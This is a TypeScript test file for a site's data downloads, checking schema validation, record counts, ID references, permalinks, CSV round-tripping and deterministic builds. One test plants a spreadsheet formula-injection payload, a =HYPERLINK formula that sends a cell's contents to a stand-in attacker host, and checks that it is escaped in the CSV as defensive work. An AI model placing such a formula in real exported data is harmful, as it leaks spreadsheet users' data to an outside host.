// The downloads, built from loadContent + buildSite exactly as the endpoints build them: every
// file validates against its JSON Schema and zod schema, counts match the model, the CSV
// round-trips to demands.json, output is deterministic.
import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { DOWNLOADS, JSON_DOWNLOADS, fieldDocs, jsonSchemaOf, renderAll } from '../../src/downloads/catalogue.ts';
import { DEMAND_CSV_COLUMNS, downloadSchemas, type DemandRecord } from '../../src/downloads/schemas.ts';
import { CSV_LIST_SEPARATOR } from '../../src/downloads/records.ts';
import { parse as parseCsv } from 'csv-parse/sync';
import { startsLikeFormula } from '../../src/downloads/csv.ts';
import { freshModel, model } from '../helpers/model.ts';
import { objectSchemas, validate } from '../helpers/json-schema-check.ts';
import { makeLinks } from '../../src/site/paths.ts';

const LINK_MODES = [
  { name: 'root, no SITE_URL', links: makeLinks('/') },
  { name: '/kz/ with SITE_URL', links: makeLinks('/kz/', 'https://example.org') },
];

/** Ajv 2020 when it can be loaded (a dependency of html-validate, not declared by this project). */
type AjvLike = { compile(schema: unknown): ((data: unknown) => boolean) & { errors?: unknown } };
function loadAjv(): AjvLike | undefined {
  try {
    const require = createRequire(import.meta.url);
    const mod = require('ajv/dist/2020') as { default: new (opts: object) => AjvLike };
    const Ajv = mod.default;
    const ajv = new Ajv({ strict: true, allErrors: true, validateFormats: false });
    return ajv;
  } catch {
    return undefined;
  }
}

describe.each(LINK_MODES)('downloads ($name)', ({ links }) => {
  const site = model();
  const files = renderAll(site, links);
  const parsed = (name: string) => JSON.parse(files.get(name)!) as Array<Record<string, unknown>>;

  it('has every file of the catalogue and its schema', () => {
    for (const d of DOWNLOADS) expect(files.has(d.name), d.name).toBe(true);
    for (const d of JSON_DOWNLOADS) expect(files.has(d.schema), d.schema).toBe(true);
  });

  it.each(JSON_DOWNLOADS.map((d) => d.name))('%s validates against its JSON Schema and its zod schema', (name) => {
    const d = JSON_DOWNLOADS.find((x) => x.name === name)!;
    const schema = JSON.parse(files.get(d.schema)!) as Record<string, unknown>;
    const data = parsed(name);
    expect(validate(schema, data)).toEqual([]);
    expect(() => downloadSchemas[d.name].parse(data)).not.toThrow();
    const ajv = loadAjv();
    if (ajv) {
      const check = ajv.compile(schema);
      expect(check(data), JSON.stringify(check.errors)).toBe(true);
    }
  });

  it.each(JSON_DOWNLOADS.map((d) => d.name))('%s: the JSON Schema is well formed and describes every field', (name) => {
    const d = JSON_DOWNLOADS.find((x) => x.name === name)!;
    const schema = JSON.parse(files.get(d.schema)!) as Record<string, unknown>;
    expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
    if (links.absolute) expect(schema.$id).toBe(links.url(`data/${d.schema}`));
    else expect(schema.$id).toBeUndefined();
    expect(schema.type).toBe('array');
    expect(typeof schema.title).toBe('string');
    expect(String(schema.description)).not.toBe('');
    for (const { path, schema: obj } of objectSchemas(schema)) {
      expect(obj.additionalProperties, `${path} closed`).toBe(false);
      const props = Object.keys((obj.properties ?? {}) as object);
      expect([...((obj.required ?? []) as string[])].sort(), `${path}: every field required (nullable, not optional)`).toEqual([...props].sort());
    }
    const docs = fieldDocs(schema);
    expect(docs.length).toBeGreaterThan(2);
    for (const f of docs) expect(f.description, `${name} ${f.path} has a description`).toMatch(/\S{3}/);
    // Every key of every record is documented (the schema is closed, so this is the converse).
    const documented = new Set(docs.map((f) => f.path));
    const walk = (v: unknown, prefix: string) => {
      if (Array.isArray(v)) return v.forEach((x) => walk(x, prefix.endsWith('.') ? prefix.slice(0, -1) + '[].' : prefix));
      if (v && typeof v === 'object') {
        for (const [k, x] of Object.entries(v)) {
          expect(documented.has(prefix + k), `${name}: ${prefix + k} documented`).toBe(true);
          walk(x, `${prefix}${k}.`);
        }
      }
    };
    parsed(name).forEach((r) => walk(r, ''));
  });

  it('counts match the model', () => {
    expect(parsed('demands.json')).toHaveLength(site.demands.length);
    expect(parsed('procedures.json')).toHaveLength(site.procedures.length);
    expect(parsed('timeline.json')).toHaveLength(site.events.length);
    expect(parsed('people.json')).toHaveLength(site.people.length);
    expect(parsed('themes.json')).toHaveLength(site.themes.length);
    expect(parsed('addressees.json')).toHaveLength(site.addressees.length);
    expect(parsed('provisions.json')).toHaveLength(site.provisions.length);
    const procs = parsed('procedures.json');
    expect(procs.reduce((n, p) => n + (p.demandCount as number), 0)).toBe(site.demands.length);
    for (const p of procs) {
      const texts = p.texts as Array<{ demandCount: number; items: unknown[] }>;
      expect(texts.reduce((n, t) => n + t.demandCount, 0)).toBe(p.demandCount);
      expect(texts.reduce((n, t) => n + t.items.length, 0)).toBe(site.bySlug.get(p.slug as string)!.items.size);
    }
  });

  it('every id a record names is defined in a download', () => {
    const ids = (name: string) => new Set(parsed(name).map((r) => r.id as string));
    const themes = ids('themes.json');
    const people = ids('people.json');
    const addressees = ids('addressees.json');
    const provisions = ids('provisions.json');
    const demands = ids('demands.json');
    const references = new Set(parsed('procedures.json').map((p) => p.reference as string));
    expect(demands.size).toBe(site.demands.length);
    for (const d of parsed('demands.json') as unknown as DemandRecord[]) {
      expect(references.has(d.procedure)).toBe(true);
      d.themes.forEach((t) => expect(themes.has(t), t).toBe(true));
      d.people.forEach((t) => expect(people.has(t), t).toBe(true));
      d.addressees.forEach((t) => expect(addressees.has(t), t).toBe(true));
      d.provisions.forEach((t) => expect(provisions.has(t), t).toBe(true));
    }
    for (const name of ['themes.json', 'people.json', 'addressees.json', 'provisions.json']) {
      for (const r of parsed(name)) (r.demands as string[]).forEach((id) => expect(demands.has(id), `${name} ${id}`).toBe(true));
    }
  });

  it('a demand is verbatim in its item, at its offset', () => {
    const items = new Map<string, string>();
    for (const p of parsed('procedures.json')) {
      for (const t of p.texts as Array<{ items: Array<{ anchor: string; text: string }> }>) for (const it of t.items) items.set(`${p.reference} ${it.anchor}`, it.text);
    }
    for (const d of parsed('demands.json') as unknown as DemandRecord[]) {
      const text = items.get(`${d.procedure} ${d.anchor}`);
      expect(text, d.id).toBeDefined();
      expect(text!.slice(d.offset, d.offset + d.text.length), d.id).toBe(d.text);
    }
  });

  it('permalinks follow the link mode', () => {
    for (const d of parsed('demands.json') as unknown as DemandRecord[]) {
      if (links.absolute) expect(d.permalink).toMatch(/^https:\/\/example\.org\/kz\/procedures\/\d{4}-\d{4}\/#demand-/);
      else expect(d.permalink).toMatch(/^\/procedures\/\d{4}-\d{4}\/#demand-/);
    }
  });

  it('demands.csv round-trips to demands.json', () => {
    const csv = files.get('demands.csv')!;
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/(?<!")\n/); // newlines only inside quoted fields
    const [header, ...rows] = parseCsv(csv, { record_delimiter: '\r\n' }) as string[][];
    expect(header).toEqual([...DEMAND_CSV_COLUMNS]);
    const json = parsed('demands.json') as unknown as DemandRecord[];
    expect(rows).toHaveLength(json.length);
    rows.forEach((row, i) => {
      const rec = Object.fromEntries(header!.map((h, k) => [h, row[k]!]));
      const d = json[i]!;
      expect(rec.id).toBe(d.id);
      expect(rec.procedure).toBe(d.procedure);
      expect(Number(rec.year)).toBe(d.year);
      expect(rec.date === '' ? null : rec.date).toBe(d.date);
      expect(rec.document).toBe(d.document);
      expect(rec.paragraph).toBe(d.paragraph);
      for (const k of ['addressees', 'themes', 'people', 'provisions'] as const) {
        expect(rec[k] === '' ? [] : rec[k]!.split(CSV_LIST_SEPARATOR), `${d.id} ${k}`).toEqual(d[k]);
      }
      // A text a spreadsheet would run as a formula carries an apostrophe in the CSV only.
      expect(rec.text).toBe(startsLikeFormula(d.text) ? `'${d.text}` : d.text);
      expect(rec.permalink).toBe(d.permalink);
    });
  });
});

describe('spreadsheet-safe demands.csv', () => {
  it('a demand whose text starts with =HYPERLINK( is text in the CSV and exact in the JSON', () => {
    const site = freshModel();
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const demand = site.demands[0]!;
    (demand as { text: string }).text = formula;
    const files = renderAll(site, makeLinks('/'));
    const json = JSON.parse(files.get('demands.json')!) as DemandRecord[];
    expect(json.find((d) => d.id === demand.id)!.text).toBe(formula);
    const [header, ...rows] = parseCsv(files.get('demands.csv')!, { record_delimiter: '\r\n' }) as string[][];
    const row = rows.find((r) => r[header!.indexOf('id')] === demand.id)!;
    expect(row[header!.indexOf('text')]).toBe(`'${formula}`);
    expect(files.get('demands.csv')).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",`);
  });
});

describe('determinism', () => {
  it('two independent builds of the model give byte-identical files', () => {
    const links = makeLinks('/kz/', 'https://example.org');
    const a = renderAll(freshModel(), links);
    const b = renderAll(freshModel(), links);
    expect([...a.keys()]).toEqual([...b.keys()]);
    for (const [k, v] of a) expect(b.get(k), k).toBe(v);
  });

  it('files carry no timestamps of the build', () => {
    const files = renderAll(model(), makeLinks('/'));
    const today = new Date().toISOString().slice(0, 10);
    for (const [k, v] of files) expect(v.includes(today), k).toBe(false);
  });

  it('the JSON Schema of each file is the one its zod schema generates', () => {
    const links = makeLinks('/');
    for (const d of JSON_DOWNLOADS) expect(JSON.parse(renderAll(model(), links).get(d.schema)!)).toEqual(jsonSchemaOf(d, links));
  });
});
